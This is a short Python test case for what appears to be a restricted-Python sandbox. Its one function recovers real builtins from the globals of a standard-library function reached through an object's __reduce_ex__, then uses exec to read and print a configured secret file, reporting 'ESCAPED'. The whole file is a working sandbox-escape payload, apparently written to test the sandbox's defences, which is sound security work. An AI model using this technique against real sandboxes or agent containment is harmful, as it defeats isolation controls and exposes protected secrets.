# expect: done
# idea: get a Python function of the standard library from the __reduce_ex__ of a plain object, and exec with the builtins of its globals
def tick(ctx):
    maker = type("Plain", (), {})().__reduce_ex__(2)[0]
    builtins = maker.__globals__["__builtins__"]
    get = builtins.get if isinstance(builtins, dict) else builtins.__dict__.get
    space = {"__builtins__": builtins, "path": ctx.config["secret_file"]}
    try:
        get("exec")("print('ESCAPED: read', open(path).read())", space)
    except Exception as error:
        print("refused:", error)
